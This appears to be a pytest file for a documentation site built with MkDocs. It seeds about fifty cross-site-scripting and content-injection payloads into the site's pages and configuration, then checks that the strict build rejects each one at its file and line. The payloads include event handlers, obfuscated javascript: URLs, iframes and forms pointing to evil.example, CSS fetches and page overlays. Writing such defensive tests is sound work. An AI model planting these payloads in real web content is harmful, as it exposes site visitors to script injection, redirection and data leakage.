"""Hostile editor content: each way to run code, reach another host or cover the page, seeded
into a copy of the real KB, fails the strict build with a message at the file and line that
wrote it. What the build lets through is escaped: tests/browser/test_hostile_content.py loads
it with dialog, console and request listeners.

All payloads are in the default language's files, the configuration and the interface text,
so one strict build reports every one of them.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest

from support.mkdocs_run import build_strict, warnings_in
from support.paths import copy_site_sources
from support.seeded_faults import APPEND, Fault


def page(name: str, file: str, payload: str, problem: str, marker: str | None = None) -> Fault:
    """A payload appended to a default-language page, on lines of its own."""
    return Fault(name, file, APPEND, payload, problem, marker or payload.splitlines()[0][:40])


SWOPIFY, BAOFENG, ENTEKHAB, HOME, STORE = "swopify", "baofeng-tv", "entekhab-1699", "home-shopping", "online-store"
HOSTILE = [
    # Script injection through attributes attr_list makes, in a page and in a table cell.
    page(
        "attr-list-image",
        f"{SWOPIFY}/index.md",
        '![Logo](../assets/images/favicon.svg){ onload="alert(1)" }',
        "attribute onload runs JavaScript",
    ),
    page(
        "attr-list-heading",
        f"{SWOPIFY}/seller-absence.md",
        '## Hostile {#hostile onmouseover="alert(2)"}',
        "attribute onmouseover runs JavaScript",
    ),
    page(
        "attr-list-paragraph",
        f"{SWOPIFY}/customer-communication.md",
        'Click.\n{: onclick="alert(3)" }',
        "attribute onclick runs JavaScript",
        "{: onclick",
    ),
    Fault(
        "table-cell-handler",
        f"{SWOPIFY}/customer-contact-takeover.table.yml",
        '(at the latest within {{fact:reply-deadline}})"',
        '(at the latest within {{fact:reply-deadline}}) <img src=x onerror=alert(4)>"',
        "attribute onerror runs JavaScript",
        "onerror=alert(4)",
    ),
    # Raw HTML: handlers, however written.
    page("raw-img-onerror", f"{BAOFENG}/index.md", "<img src=x onerror=alert(5)>", "attribute onerror runs JavaScript"),
    page(
        "handler-spaced",
        f"{BAOFENG}/commitments.md",
        '<img src="x.png" alt="a" onerror  =  "alert(6)">',
        "attribute onerror runs JavaScript",
    ),
    page("svg-onload", f"{BAOFENG}/definitions.md", '<svg onload="alert(7)"></svg>', "attribute onload runs JavaScript"),
    page(
        "details-ontoggle",
        f"{BAOFENG}/missing-accessories.md",
        '<details open ontoggle="alert(8)"><summary>s</summary></details>',
        "attribute ontoggle runs JavaScript",
    ),
    page(
        "svg-script",
        f"{BAOFENG}/onsite-service.md",
        "<svg><script>alert(9)</script></svg>",
        "<script> is not allowed in page content",
        "<svg><script>",
    ),
    page("script-src", f"{BAOFENG}/time-limits.md", '<script src="https://evil.example/x.js"></script>', "is not allowed in page content"),
    page(
        "math",
        f"{BAOFENG}/waiting-for-service.md",
        "<math><mtext><img src=x onerror=alert(11)></mtext></math>",
        "<math> is not allowed in a page",
        "<math>",
    ),
    page(
        "iframe-srcdoc",
        f"{BAOFENG}/application-process.md",
        '<iframe srcdoc="&lt;script&gt;alert(12)&lt;/script&gt;"></iframe>',
        "is not allowed in a page",
    ),
    page("iframe-src", f"{BAOFENG}/booking-request.md", '<iframe src="https://evil.example/"></iframe>', "is not allowed in a page"),
    page(
        "object", f"{BAOFENG}/partner-customer-duties.md", '<object data="https://evil.example/x.swf"></object>', "is not allowed in a page"
    ),
    page("embed", f"{ENTEKHAB}/index.md", '<embed src="https://evil.example/x.swf">', "is not allowed in a page"),
    page("base", f"{ENTEKHAB}/address-change.md", '<base href="https://evil.example/">', "is not allowed in a page"),
    page(
        "meta-refresh",
        f"{ENTEKHAB}/before-purchase.md",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "is not allowed in page content",
    ),
    page(
        "form", f"{ENTEKHAB}/cheques.md", '<form action="https://evil.example/"><input name="q"></form>', "is not allowed in page content"
    ),
    page(
        "button-formaction",
        f"{ENTEKHAB}/contact-centre.md",
        '<button formaction="https://evil.example/">b</button>',
        "attribute formaction makes the browser fetch",
    ),
    page(
        "template",
        f"{ENTEKHAB}/delivery-problems.md",
        "<template><img src=x onerror=alert(20)></template>",
        "<template> is not allowed in page content",
    ),
    page(
        "noscript",
        f"{ENTEKHAB}/during-purchase.md",
        '<noscript><p title="</noscript><img src=x onerror=alert(21)>"></p></noscript>',
        "<noscript> is not allowed",
    ),
    page(
        "link-stylesheet",
        f"{ENTEKHAB}/festival-card.md",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "is not allowed in page content",
    ),
    page(
        "video-poster",
        f"{ENTEKHAB}/installation-repair.md",
        '<video poster="https://evil.example/p.png"></video>',
        "is not allowed in page content",
    ),
    # javascript: and other schemes, however spelled.
    page(
        "entity-scheme",
        f"{ENTEKHAB}/refunds.md",
        '<a href="&#106;avascript:alert(24)">e</a>',
        "href leads to a javascript: URL",
        "&#106;avascript",
    ),
    page("mixed-case-scheme", f"{HOME}/autodialer.md", '<a href="JaVaScRiPt:alert(25)">m</a>', "href leads to a javascript: URL"),
    page("tab-in-scheme", f"{HOME}/bonus-card.md", '<a href="java&#x09;script:alert(26)">t</a>', "href leads to a javascript: URL"),
    page("space-before-scheme", f"{HOME}/crm-statuses.md", '<a href=" javascript:alert(27)">s</a>', "href leads to a javascript: URL"),
    page(
        "data-link",
        f"{HOME}/greeting.md",
        '<a href="data:text/html,&lt;script&gt;alert(28)&lt;/script&gt;">d</a>',
        "href leads to a data: URL",
    ),
    page("vbscript-link", f"{HOME}/index.md", '<a href="vbscript:msgbox(29)">v</a>', "href leads to a vbscript: URL"),
    page("svg-xlink", f"{HOME}/order-changes.md", '<svg><a xlink:href="javascript:alert(30)"><text>x</text></a></svg>', "xlink:href"),
    # Titles Material's tooltips render as HTML.
    page(
        "abbr-title", f"{HOME}/order-placement.md", "KB rules.\n\n*[KB]: <img src=x onerror=alert(31)>", "the title holds markup", "*[KB]"
    ),
    page("link-title", f"{HOME}/reference.md", '[t](https://example.org "<img src=x onerror=alert(32)>")', "the title holds markup"),
    page("image-title", f"{HOME}/repeat-returners.md", '![alt](../assets/images/favicon.svg "<b>x</b>")', "the title holds markup"),
    page(
        "entity-title", f"{HOME}/return-address.md", '<span title="&lt;img src=x onerror=alert(34)&gt;">t</span>', "the title holds markup"
    ),
    Fault(
        "glossary-definition",
        "snippets/glossary/swopify.en.md",
        "*[IMEI]: International Mobile Equipment Identity",
        "*[IMEI]: <img src=x onerror=alert(35)> International Mobile Equipment Identity",
        "the title holds markup",
        "*[IMEI]",
    ),
    # The search index and the theme.
    page(
        "pagefind-meta",
        f"{HOME}/returns.md",
        '<span data-pagefind-meta="target:javascript:alert(36)">x</span>',
        "attribute data-pagefind-meta instructs the site search",
    ),
    page(
        "theme-id",
        f"{HOME}/standard-phrases.md",
        '<div id="__config">{"search": "https://evil.example/"}</div>',
        "id '__config' is reserved for the theme",
    ),
    page(
        "theme-attribute",
        f"{HOME}/where-is-my-money.md",
        '<span data-md-component="search">x</span>',
        "attribute data-md-component is reserved for the theme",
    ),
    page(
        "mermaid-class",
        f"{HOME}/where-is-my-parcel.md",
        '<div class="mermaid">graph TD; A-->B</div>',
        "class mermaid makes the theme load a script",
    ),
    # Fetches from another host.
    page(
        "style-import-escaped",
        f"{STORE}/index.md",
        '<style>@import "\\68ttps://evil.example/x.css";</style>',
        "<style> is not allowed in a page",
        "<style>",
    ),
    page(
        "style-url-escaped",
        f"{STORE}/availability-and-viewing.md",
        '<span style="background:url(\\68ttps://evil.example/y.png)">y</span>',
        "attribute style restyles the page",
    ),
    page(
        "image-set",
        f"{STORE}/branded-store-complaints.md",
        "<span style=\"background-image:image-set('https://evil.example/z.png' 1x)\">z</span>",
        "attribute style restyles the page",
    ),
    page(
        "td-background",
        f"{STORE}/delivery-and-payment.md",
        '<table><tr><td background="https://evil.example/bg.png">x</td></tr></table>',
        "attribute background restyles the page",
    ),
    page(
        "ping",
        f"{STORE}/delivery-complaint.md",
        '[ping](https://example.org){ ping="https://evil.example/ping" }',
        "attribute ping makes the browser fetch",
    ),
    page("protocol-relative", f"{STORE}/exchange-or-refund.md", '<img src="//evil.example/p.png" alt="p">', "loads //evil.example/p.png"),
    page(
        "backslash-host",
        f"{STORE}/hotline-from-branded-store.md",
        '<img src="/\\evil.example/b.png" alt="b">',
        "src loads //evil.example/b.png",
    ),
    page(
        "srcset",
        f"{STORE}/legal-entity-purchase.md",
        '<img srcset="https://evil.example/s.png 2x" alt="s">',
        "loads https://evil.example/s.png",
    ),
    page(
        "data-image",
        f"{STORE}/order-question.md",
        '<img src="data:image/svg+xml,&lt;svg onload=alert(48)&gt;" alt="d">',
        "src loads a data: URL",
    ),
    page(
        "input-image",
        f"{STORE}/regional-delivery.md",
        '<input type="image" src="https://evil.example/i.png" alt="i">',
        "loads https://evil.example/i.png",
    ),
    # Markup nested deeper than the HTML parser reads hides what follows it from every check.
    page(
        "deep-nesting",
        f"{STORE}/thunderobot-accessories.md",
        "<span>" * 300 + "x" + "</span>" * 300 + '<img src="https://evil.example/deep.png" alt="d">',
        "nests too deeply to be read",
    ),
    # Covering the header and search box.
    page(
        "fixed-cover",
        f"{STORE}/send-to-branded-store.md",
        '<div style="position:fixed;inset:0;z-index:9">cover</div>',
        "attribute style restyles the page",
    ),
    # Plain-text fields: front matter, configuration, interface text.
    Fault(
        "front-matter-title",
        f"{STORE}/thunderobot-accessories.md",
        'title: "Thunderobot accessories: frequently asked questions, faults"',
        'title: "<img src=data:, onerror=alert(51)>"',
        "the title holds markup (<)",
        "title:",
    ),
    Fault(
        "nav-translation",
        "../mkdocs.yml",
        "Online store and branded stores: Интернет-магазин и фирменные магазины",
        'Online store and branded stores: "<img src=x onerror=alert(52)>"',
        "nav_translations of ru '<img src=x onerror=alert(52)>' holds markup",
        "onerror=alert(52)",
    ),
    Fault(
        "interface-text",
        "../languages/en.yml",
        'owner: "Owner"',
        'owner: "<b onmouseover=alert(53)>Owner</b>"',
        "'owner' holds markup (<)",
        "owner:",
    ),
]


@dataclass(frozen=True)
class Outcome:
    returncode: int
    output: str
    warnings: list[str]
    docs: Path


@pytest.fixture(scope="module")
def outcome(tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    root = copy_site_sources(tmp_path_factory.mktemp("hostile"))
    for fault in HOSTILE:
        fault.apply(root / "docs")
    result = build_strict(root, root / "site")
    output = result.stdout + result.stderr
    return Outcome(result.returncode, output, warnings_in(output), root / "docs")


def test_the_suite_covers_every_kind_of_payload() -> None:
    assert len(HOSTILE) >= 45
    assert len({fault.name for fault in HOSTILE}) == len(HOSTILE)


def test_the_build_refuses_without_crashing(outcome: Outcome) -> None:
    assert outcome.returncode != 0
    assert "Traceback" not in outcome.output


@pytest.mark.parametrize("fault", HOSTILE, ids=lambda fault: fault.name)
def test_payload_fails_the_build_at_its_file_and_line(outcome: Outcome, fault: Fault) -> None:
    located, problem = fault.expected(outcome.docs)
    located = located.replace("docs/../", "")
    matching = [line for line in outcome.warnings if located in line and problem in line]
    assert matching, (located, problem, [line for line in outcome.warnings if problem in line] or outcome.warnings[-20:])
